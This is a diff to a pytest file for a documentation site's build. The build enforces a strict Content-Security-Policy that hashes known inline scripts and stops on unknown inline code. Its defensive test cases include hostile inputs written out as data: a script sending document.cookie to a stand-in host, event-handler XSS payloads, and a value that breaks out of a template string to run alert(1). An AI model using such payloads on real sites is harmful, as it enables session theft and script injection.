@@ -1,16 +1,22 @@
-"""The stricter Content-Security-Policy: no page allows 'unsafe-inline'
-scripts; the build lists the SHA-256 of every inline script of every page
-(scripts/postbuild/csp.py, the last build step), so the page's own
-scripts run and any other inline script is blocked. Styles are as strict
+"""The stricter Content-Security-Policy: no page allows 'unsafe-inline' or
+'unsafe-hashes'; the build lists the SHA-256 of the inline scripts and styles
+the project knows it writes (scripts/postbuild/known_inline.py: the theme's
+and the overrides' scripts, read from their templates, and the build's own
+CSS), checked by scripts/postbuild/csp.py, the last build step; any other
+inline script, handler or style= attribute stops the build, naming the page. Styles are as strict
 ('self' and hashes); DNS prefetching is off; the policy comes before the
 first script of the page. The audits in test_privacy.py and test_firefox.py
 see no console error with it."""
 import re
+from pathlib import Path
 
+import material
 import pytest
 
 from postbuild import csp
-from conftest import wake_theme
+from helpers import ROOT, build_site, wake_theme
+from postbuild import known_inline
+from translation_project import copy_project, output
 
 CSP = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">')
 
@@ -46,19 +52,88 @@ def test_the_policy_comes_before_any_script_and_dns_prefetch_is_off(site, pages)
         assert '<meta http-equiv="x-dns-prefetch-control" content="off">' in html, rel
 
 
-def test_hashing_covers_what_a_later_build_step_might_inline():
-    page = ('<html><head><meta http-equiv="Content-Security-Policy" content="default-src \'self\'; '
-            'script-src \'self\'; style-src \'self\'"><style>p{color:red}</style></head><body>'
-            '<script>let a = 1;\r\n</script><script type="application/json">{"x": 1}</script>'
-            '<script src="x.js"></script><img src="i.png" onload="go()" style="width:1px"></body></html>')
-    policy = directives(CSP.search(csp.hash_page(page)).group(1))
-    assert csp.sha256("let a = 1;\n") in policy["script-src"]
+def known():
+    return known_inline.KnownInline([ROOT / "overrides", Path(material.__file__).parent / "templates"])
+
+
+PAGE = ('<html><head><meta http-equiv="Content-Security-Policy" content="default-src \'self\'; '
+        'script-src \'self\'; style-src \'self\'">{head}</head><body>{body}'
+        '<script type="application/json">{{"x": 1}}</script><script src="x.js"></script></body></html>')
+OVERRIDE = (ROOT / "overrides/partials/javascripts/base.html").read_text(encoding="utf-8")
+OVERRIDE_SCRIPT = OVERRIDE[OVERRIDE.index("<script>") + 8:OVERRIDE.index("</script>")]
+
+
+def test_the_known_scripts_are_hashed_and_data_is_not():
+    theme = (Path(material.__file__).parent / "templates/partials/javascripts/palette.html").read_text()
+    palette = theme[theme.index("<script>") + 8:theme.index("</script>")]
+    ours = OVERRIDE_SCRIPT.replace("{{ config.extra.scope | d(base_url) }}", "..")
+    page = PAGE.format(head="", body=f"<script>{palette}</script><script>{ours}</script>")
+    policy = directives(CSP.search(csp.hash_page(page, known())).group(1))
+    assert policy["script-src"] == ["'self'", csp.sha256(palette), csp.sha256(ours)]
     assert csp.sha256('{"x": 1}') not in policy["script-src"]  # data, never run
-    assert csp.sha256("p{color:red}") in policy["style-src"]
-    assert "'unsafe-hashes'" in policy["script-src"] and csp.sha256("go()") in policy["script-src"]
-    assert "'unsafe-hashes'" in policy["style-src"] and csp.sha256("width:1px") in policy["style-src"]
-    assert csp.hash_page(page.replace("Content-Security-Policy", "X")) == page.replace(
-        "Content-Security-Policy", "X")  # no policy of ours: left alone
+
+
+@pytest.mark.parametrize("head,body,expected", [
+    ("", "<script>fetch('https://x.example/?'+document.cookie)</script>", "inline script the project does not know"),
+    ("", '<script type="text/plain ">alert(1)</script>', "inline script the project does not know"),
+    ("", '<details open ontoggle="alert(1)"><summary>x</summary></details>', "event-handler attribute"),
+    ("", '<img src="i.png" onload="go()">', "event-handler attribute"),
+    ("", '<div style="position:fixed;inset:0">x</div>', "style= attribute"),
+    ("<style>.rs-exit{display:none}</style>", "", "<style> no build step wrote"),
+    # the overrides' script with something else in the place of the root path
+    ("", "<script>" + OVERRIDE_SCRIPT.replace("{{ config.extra.scope | d(base_url) }}",
+                                              '",location);alert(1);("') + "</script>", "does not know"),
+])
+def test_unknown_inline_code_stops_the_build_naming_the_page(head, body, expected):
+    with pytest.raises(known_inline.UnknownInlineCode, match="zh/x.html") as error:
+        csp.hash_page(PAGE.format(head=head, body=body), known(), name="zh/x.html")
+    assert expected in str(error.value)
+
+
+def test_a_style_a_build_step_registered_is_hashed(tmp_path):
+    path = tmp_path / "x.html"
+    known_inline.allow_style(path, "p{color:red}")
+    try:
+        page = csp.hash_page(PAGE.format(head="<style>p{color:red}</style>", body=""), known(), path)
+    finally:
+        known_inline.forget_styles()
+    assert directives(CSP.search(page).group(1))["style-src"] == ["'self'", csp.sha256("p{color:red}")]
+
+
+def test_the_allow_list_fails_loudly_if_the_theme_changes(tmp_path):
+    folder = tmp_path / "partials/javascripts"
+    folder.mkdir(parents=True)
+    (folder / "palette.html").write_text("{# the palette script moved elsewhere #}\n")
+    with pytest.raises(known_inline.UnknownInlineCode, match="theme changed"):
+        known_inline.KnownInline([tmp_path, ROOT / "overrides", Path(material.__file__).parent / "templates"])
+
+
+def test_the_unknown_code_is_traced_to_its_markdown_file(tmp_path):
+    docs = tmp_path / "docs"
+    (docs / "zh").mkdir(parents=True)
+    (docs / "zh" / "about.md").write_text("# x\n\ntext\n<b onclick=\"go()\">x</b>\n", encoding="utf-8")
+    source = csp.source_of("zh/about.html", docs, "en", ["en", "zh"])
+    assert source == docs / "zh" / "about.md"
+    with pytest.raises(known_inline.UnknownInlineCode, match=r"zh/about\.md:4\)"):
+        csp.hash_page(PAGE.format(head="", body='<b onclick="go()">x</b>'), known(), None, source, "zh/about.html")
+
+
+def test_no_page_allows_unsafe_hashes(site):
+    for path in site.rglob("*.html"):
+        assert "unsafe-hashes" not in path.read_text(encoding="utf-8"), path
+
+
+def test_an_inline_script_in_a_template_fails_the_build(tmp_path):
+    project = copy_project(tmp_path / "project")
+    template = project / "overrides" / "main.html"
+    text = template.read_text(encoding="utf-8")
+    template.write_text(text.replace("{% block header %}\n  {{ super() }}",
+                                     "{% block header %}\n  {{ super() }}<script>window.x=1</script>", 1),
+                        encoding="utf-8")
+    result = build_site(tmp_path / "site", project)
+    assert result.returncode != 0
+    assert "zh/check.html: inline code that its Content-Security-Policy must not allow" in output(result)
+    assert "'window.x=1'" in output(result)
 
 
 VIOLATIONS = """
